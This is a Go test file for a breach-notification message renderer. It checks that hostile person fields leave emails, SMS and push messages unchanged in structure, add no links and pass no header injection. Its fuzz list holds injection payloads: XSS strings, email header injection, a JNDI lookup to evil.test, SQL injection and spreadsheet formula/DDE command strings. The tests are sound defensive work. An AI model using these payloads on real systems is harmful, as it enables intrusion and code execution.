package render

import (
	"fmt"
	"regexp"
	"strings"
	"testing"
	"unicode"

	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"
	"pgregory.net/rapid"

	"github.com/tocsin-engine/tocsin/internal/breach"
	"github.com/tocsin-engine/tocsin/internal/delivery"
)

// nasty is what people, their spreadsheets and attackers have put into name fields.
var nasty = []string{
	"<script>alert(1)</script>", "</p></div><a href=https://evil.test>x</a>", `"><img src=x onerror=alert(1)>`, "<!--", "-->", "]]>", "<![CDATA[",
	"Ana\r\nBcc: all@evil.test", "Ana\nSubject: pwned", "Ana\x00", "\u2028\u2029", "Ana\u0085X", "\v\f",
	"{{name}}", "{{reference}}", "{{advice}}", "{{.Person}}", "{{{{name}}}}", "${jndi:ldap://evil.test}", "%recipient.name%", "*|NAME|*", "<%= x %>", "{%% raw %%}", "[[name]]",
	"http://evil.test", "https://evil.test/a?b=c", "HTTPS://EVIL.TEST", "www.evil.test", "evil.com", "evil．com", "evil。com", "evil｡com", "ana@evil.test", "mailto:a@b.test", "javascript:alert(1)", "tel:+1900555", "//evil.test/x", `\\evil\share`, "1.2.3.4", "[x](http://evil.test)", "<http://evil.test>",
	"\u202egnp.exe", "\u2066\u2067\u2069\u200f\u061c", "a\u200bb", "\ufeffAna", "Z\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351\u0351algo", "\u3164\u3164", "\u2800",
	"&lt;b&gt;", "&#60;script&#62;", "&amp;", "' OR 1=1 --", "=HYPERLINK(\"http://evil.test\")", "+cmd|' /C calc'!A0",
	strings.Repeat("A", 5000), strings.Repeat("\u0301", 500), strings.Repeat("😀", 300), "\xff\xfe", "\xed\xa0\x80",
	"O'Brien", "J.R.R. Tolkien", "Anne-Marie d'Été", "李小龙", "محمد العربي", "שלום", "ผู้ใช้", "क्षत्रिय", "", " ", "\t",
}

// linkable finds what the strictest and the laxest mail program turn into links, but for the addresses of
// the sample's own words.
var linkable = regexp.MustCompile(`(?i)www\.\S|\b(evil|b)[.．。｡][a-z]|(?:http|https|mailto|tel|javascript):\S|\d\.\d+\.\d`)

// skeleton is the structure of HTML: elements with attributes, and where text stands, but not which.
func skeleton(t require.TestingT, markup string) string {
	root, err := html.Parse(strings.NewReader(markup))
	require.NoError(t, err)
	var b strings.Builder
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		switch n.Type {
		case html.TextNode:
			b.WriteString("t")
		case html.ElementNode:
			fmt.Fprintf(&b, "<%s", n.Data)
			for _, a := range n.Attr {
				fmt.Fprintf(&b, " %s=%q", a.Key, a.Val)
			}
			b.WriteString(">")
			for c := n.FirstChild; c != nil; c = c.NextSibling {
				walk(c)
			}
			b.WriteString("</>")
		default:
			fmt.Fprintf(&b, "[%d]", n.Type)
			for c := n.FirstChild; c != nil; c = c.NextSibling {
				walk(c)
			}
		}
	}
	walk(root)
	return b.String()
}

func lines(s string) int { return strings.Count(s, "\n") + 1 }

// baseline is one text with what a harmless person gets from it.
type baseline struct {
	text     breach.Text
	to       breach.Addressee
	want     delivery.Message
	skeleton string
}

func baselines(t testing.TB, e *Engine) (out []baseline) {
	t.Helper()
	for _, text := range sampleTexts(t, e) {
		to := breach.Addressee(text.Ref.Variant)
		if text.Ref.Kind != breach.KindNotice || (text.Ref.Channel == string(breach.Push) && to == breach.ToGuardian) {
			continue
		}
		m, err := written(e, text, samplePerson(), to, sampleReference)
		require.NoError(t, err)
		out = append(out, baseline{text, to, m, skeleton(t, m.HTML)})
	}
	return out
}

// sameShape checks a message made of hostile fields against the same message for a harmless person.
func sameShape(t require.TestingT, e *Engine, all []baseline, hostile string) {
	p := samplePerson()
	p.Name, p.Guardian.Name = hostile, hostile
	p.Locale, p.Country, p.ExternalID, p.PostalAddress, p.Region = hostile, hostile, hostile, hostile, hostile
	p.DataClasses = append([]string{hostile}, p.DataClasses...)
	for _, b := range all {
		got, err := written(e, b.text, p, b.to, sampleReference)
		require.NoError(t, err)
		require.Equal(t, lines(b.want.Text), lines(got.Text), "lines of the text")
		require.Equal(t, 1, lines(got.ToName))
		require.Equal(t, [...]string{b.want.Subject, b.want.Title, b.want.Link, b.want.To, b.want.Locale}, [...]string{got.Subject, got.Title, got.Link, got.To, got.Locale})
		require.Equal(t, b.skeleton, skeleton(t, got.HTML), "structure of the HTML")
		for _, s := range []string{got.Text, html.UnescapeString(got.HTML), got.ToName} {
			for _, r := range s {
				if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r)) {
					require.Failf(t, "a character that nobody sees", "%U", r)
				}
			}
		}
		for _, s := range []string{got.Text, got.ToName} {
			s = strings.ReplaceAll(s, "https://larkfield.example", "")
			if linkable.MatchString(s) {
				require.Failf(t, "a link came in", "%q", linkable.FindString(s))
			}
		}
		got.DeliveryID, got.AttemptID = "d", "d-1"
		if f := got.Check(); f != nil {
			require.Fail(t, "the adapters would refuse it: "+f.Detail)
		}
	}
}

func TestHostileFieldsChangeNoStructure(t *testing.T) {
	t.Parallel()
	e := sampleEngine(t)
	all := baselines(t, e)
	for _, s := range nasty {
		sameShape(t, e, all, s)
	}
}

func TestHostileFieldsChangeNoStructureProperty(t *testing.T) {
	t.Parallel()
	e := sampleEngine(t)
	all := baselines(t, e)
	rapid.Check(t, func(t *rapid.T) {
		pieces := rapid.SliceOfN(rapid.OneOf(rapid.String(), rapid.SampledFrom(nasty)), 1, 4).Draw(t, "fields")
		sameShape(t, e, all, strings.Join(pieces, ""))
	})
}

func FuzzHostileFields(f *testing.F) {
	for _, s := range nasty {
		f.Add(s)
	}
	e, err := New()
	require.NoError(f, err)
	all := baselines(f, e)
	f.Fuzz(func(t *testing.T, s string) { sameShape(t, e, all[:2], s) }) // email to the person and to the guardian
}

// What the notice must say stands in every email, and the reference code and the verify address with it.
func TestPromise_M02_M03_M05_EveryEmailCarriesEverySection(t *testing.T) {
	t.Parallel()
	e := sampleEngine(t)
	texts := sampleTexts(t, e)
	for _, locale := range []string{"en", "zh-Hans"} {
		for _, to := range []breach.Addressee{breach.ToSelf, breach.ToGuardian} {
			m, err := written(e, noticeText(t, texts, breach.Email, locale, to), samplePerson(), to, sampleReference)
			require.NoError(t, err)
			plain := html.UnescapeString(m.HTML)
			for _, s := range sampleFile().Narrative[locale].Sections() {
				p, bad := readMarkdown(s.Text)
				require.Empty(t, bad)
				t.Run(fmt.Sprintf("%s/%s/%s", locale, to, s.Name), func(t *testing.T) {
					require.Contains(t, m.Text, p.Text)
					require.Contains(t, m.HTML, string(p.HTML))
				})
			}
			c := sampleFile().Contact
			for _, want := range []string{c.Name, c.Email, c.Phone, c.Address, sampleReference, "larkfield.example/verify"} {
				require.Contains(t, m.Text, want)
				require.Contains(t, plain, want)
			}
		}
	}
}

func TestPromise_M04_AdviceFollowsThePersonsData(t *testing.T) {
	t.Parallel()
	e := sampleEngine(t)
	text := noticeText(t, sampleTexts(t, e), breach.Email, "en", breach.ToSelf)
	body := func(classes ...string) string {
		p := samplePerson()
		p.DataClasses = classes
		m, err := written(e, text, p, breach.ToSelf, sampleReference)
		require.NoError(t, err)
		return m.Text
	}
	require.Contains(t, body("payment_card"), "replaced")
	require.NotContains(t, body("payment_card"), "scrambled")
	require.Contains(t, body(" Government-ID "), "number of your identity document", "lists spell kinds of data in many ways")
	require.Contains(t, body(), "password in scrambled form", "without classes of their own, a person is told what is known of all")
	require.Contains(t, body("shoe_size"), "password in scrambled form")
}

// A child is told through the guardian, by name where it is known.
func TestPromise_M15_GuardianIsAddressed(t *testing.T) {
	t.Parallel()
	e := sampleEngine(t)
	texts := sampleTexts(t, e)
	m, err := written(e, noticeText(t, texts, breach.Email, "en", breach.ToGuardian), samplePerson(), breach.ToGuardian, sampleReference)
	require.NoError(t, err)
	require.Equal(t, "rosa@mail.test", m.To)
	require.Equal(t, "Rosa Brook", m.ToName)
	require.Contains(t, m.Text, "Dear Rosa Brook,")
	require.Contains(t, m.Text, "guardian of Ana Brook")

	p := samplePerson()
	p.Name, p.Guardian = "", &breach.Guardian{Phone: "+14045550152"}
	m, err = written(e, noticeText(t, texts, breach.SMS, "en", breach.ToGuardian), p, breach.ToGuardian, sampleReference)
	require.NoError(t, err)
	require.Equal(t, "+14045550152", m.To)
	require.NotContains(t, m.Text, "Ana", "a text message names nobody")
}

// No pixel, no link, no image, no unsubscribe; a push says nothing of the incident.
func TestPromise_M24_M11_NothingTracksAndPushIsAPointer(t *testing.T) {
	t.Parallel()
	e := sampleEngine(t)
	for _, text := range sampleTexts(t, e) {
		if text.Ref.Kind != breach.KindNotice {
			continue
		}
		b, err := text.Open()
		require.NoError(t, err)
		for _, part := range b.Parts {
			lower := strings.ToLower(part)
			for _, bad := range []string{"<a ", "<img", "<link", "<script", "<form", "<iframe", "url(", "http-equiv", "unsubscribe", "退订"} {
				require.NotContains(t, lower, bad)
			}
		}
		if text.Ref.Channel == string(breach.Push) {
			said := strings.NewReplacer("We never ask for a password, code or payment.", "", "我们绝不索要密码、验证码或款项。", "").Replace(b.Parts["title"] + b.Parts["body"])
			for _, fact := range []string{"password", "email", "密码", "November", "泄露", "incident", "{{name}}", "{{data}}"} {
				require.NotContains(t, said, fact)
			}
			require.Equal(t, "https://larkfield.example/notices/"+samplePage, b.Parts["link"])
		}
	}
}

// An SMS stays within three parts for every kind of data.
func TestPromise_M09_SMSIsShort(t *testing.T) {
	t.Parallel()
	e := sampleEngine(t)
	for _, text := range sampleTexts(t, e) {
		if text.Ref.Channel != string(breach.SMS) {
			continue
		}
		for _, class := range append(e.classesOf(text.Ref.Locale), "none") {
			p := samplePerson()
			p.DataClasses = []string{class}
			m, err := written(e, text, p, breach.Addressee(text.Ref.Variant), "WWWW-WWWW-WWWW-WWWW")
			require.NoError(t, err)
			units, perPart := len([]rune(m.Text)), 67
			if text.Ref.Locale == "en" {
				perPart = 153
				require.Empty(t, strings.Trim(m.Text, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 .,:;/+-?!'()"), "only the GSM alphabet")
			}
			require.LessOrEqual(t, units, 3*perPart, "%s %s: %s", text.Ref.Locale, class, m.Text)
		}
	}
}

func (e *Engine) classesOf(tag string) (all []string) {
	for _, a := range e.languages[tag].advice.Advice {
		all = append(all, a.Classes...)
	}
	return all
}

func TestContactsAreRefusedByFieldNotByValue(t *testing.T) {
	t.Parallel()
	e := sampleEngine(t)
	texts := sampleTexts(t, e)
	for _, c := range []struct {
		channel breach.Channel
		spoil   func(*breach.Person)
		field   string
	}{
		{breach.Email, func(p *breach.Person) { p.Email = "" }, "person.email"},
		{breach.Email, func(p *breach.Person) { p.Email = "secret@x.test\r\nBcc: a@b.test" }, "person.email"},
		{breach.Email, func(p *breach.Person) { p.Email = "Secret <secret@x.test>" }, "person.email"},
		{breach.Email, func(p *breach.Person) { p.Email = "secret@x.test, other@x.test" }, "person.email"},
		{breach.Email, func(p *breach.Person) { p.Email = "secret\u202e@x.test" }, "person.email"},
		{breach.Email, func(p *breach.Person) { p.Email = strings.Repeat("secret", 60) + "@x.test" }, "person.email"},
		{breach.SMS, func(p *breach.Person) { p.Phone = "secret" }, "person.phone"},
		{breach.SMS, func(p *breach.Person) { p.Phone = "+1404555015\n" }, "person.phone"},
		{breach.Push, func(p *breach.Person) { p.PushToken = "secret token" }, "person.push_token"},
	} {
		p := samplePerson()
		c.spoil(&p)
		_, err := written(e, noticeText(t, texts, c.channel, "en", breach.ToSelf), p, breach.ToSelf, sampleReference)
		var f *delivery.Failure
		require.ErrorAs(t, err, &f)
		require.Equal(t, breach.FailedPermanent, f.State(), "the next channel is tried")
		require.Equal(t, delivery.ReasonBadInput, f.Reason)
		require.Contains(t, err.Error(), c.field)
		require.NotContains(t, err.Error(), "secret")
	}
}

func TestMessageRefusesTextsThatWereNotApprovedForIt(t *testing.T) {
	t.Parallel()
	e := sampleEngine(t)
	texts := sampleTexts(t, e)
	self := noticeText(t, texts, breach.Email, "en", breach.ToSelf)

	_, err := written(e, self, samplePerson(), breach.ToGuardian, sampleReference)
	require.Equal(t, breach.ErrInvalid, breach.CodeOf(err))

	tampered := self
	tampered.Body = []byte(strings.Replace(string(self.Body), "free call-back", "paid call-back", 1))
	_, err = written(sampleEngine(t), tampered, samplePerson(), breach.ToSelf, sampleReference)
	require.Equal(t, breach.ErrTampered, breach.CodeOf(err))

	for _, text := range texts {
		if text.Ref.Kind != breach.KindNotice {
			_, err = written(e, text, samplePerson(), breach.ToSelf, sampleReference)
			require.Equal(t, breach.ErrInvalid, breach.CodeOf(err))
		}
	}
	for _, body := range []breach.TextBody{
		{Kind: breach.KindNotice, Channel: "email", Locale: "en", Variant: "self", Parts: map[string]string{"subject": "{{nobody}}", "text": "x", "html": "x"}},
		{Kind: breach.KindNotice, Channel: "email", Locale: "en", Variant: "self", Parts: map[string]string{"subject": " ", "text": "x", "html": "x"}},
		{Kind: breach.KindNotice, Channel: "email", Locale: "en", Variant: "self", Parts: map[string]string{"subject": "{{name", "text": "x", "html": "x"}},
	} {
		broken, err := breach.NewText(body)
		require.NoError(t, err)
		_, err = written(e, broken, samplePerson(), breach.ToSelf, sampleReference)
		require.Equal(t, breach.ErrIncomplete, breach.CodeOf(err))
	}
	_, err = written(e, self, samplePerson(), breach.ToSelf, "x\r\ny")
	require.Equal(t, breach.ErrInvalid, breach.CodeOf(err))
}

// The approved bytes are what is sent, but for what varies by person.
func TestApprovedBytesAreSentAsTheyAre(t *testing.T) {
	t.Parallel()
	e := sampleEngine(t)
	for _, text := range sampleTexts(t, e) {
		if text.Ref.Kind != breach.KindNotice || text.Ref.Channel == string(breach.Push) {
			continue
		}
		b, err := text.Open()
		require.NoError(t, err)
		m, err := written(e, text, samplePerson(), breach.Addressee(text.Ref.Variant), sampleReference)
		require.NoError(t, err)
		rest := m.Text
		for _, fixed := range placeholderOrText(b.Parts["text"]) {
			_, after, found := strings.Cut(rest, fixed)
			require.True(t, found, "%q of the approved text is not in what is sent", fixed)
			rest = after
		}
	}
}

// placeholderOrText cuts a part at its marks and gives what is fixed.
func placeholderOrText(part string) (fixed []string) {
	for i, piece := range strings.Split(part, "{{") {
		if i > 0 {
			_, piece, _ = strings.Cut(piece, "}}")
		}
		fixed = append(fixed, piece)
	}
	return fixed
}

func BenchmarkMessage(b *testing.B) {
	e := sampleEngine(b)
	texts := sampleTexts(b, e)
	for _, who := range []struct {
		kind, locale, name string
	}{
		{"Latin", "en", "Ana Brook"}, {"Chinese", "zh-Hans", "李小龙"}, {"Arabic", "en", "محمد العربي"}, {"Devanagari", "en", "कविता पटेल"}, {"hostile", "en", "<b>www.evil.test\r\n{{name}}"},
	} {
		b.Run(who.kind, func(b *testing.B) {
			text := noticeText(b, texts, breach.Email, who.locale, breach.ToSelf)
			p := samplePerson()
			p.Name = who.name
			b.ReportAllocs()
			for b.Loop() {
				if _, err := e.Message(text, p, breach.ToSelf, sampleReference); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// The longest message is that of some kind of data, and no kind gives a longer one.
func TestTheLongestTextMessageIsFound(t *testing.T) {
	t.Parallel()
	e := sampleEngine(t)
	for _, tag := range allLanguages {
		text := noticeText(t, languageTexts(t, e, tag), breach.SMS, tag, breach.ToSelf)
		longest, err := e.LongestSMS(text)
		require.NoError(t, err)
		most := 0
		for _, class := range e.classesOf(tag) {
			p := samplePerson()
			p.DataClasses = []string{class}
			m, err := written(e, text, p, breach.ToSelf, sampleReference)
			require.NoError(t, err)
			most = max(most, breach.SizeOfSMS(m.Text).Parts)
		}
		require.Equal(t, most, longest.Parts, tag)
		require.Positive(t, longest.Parts)
	}
}
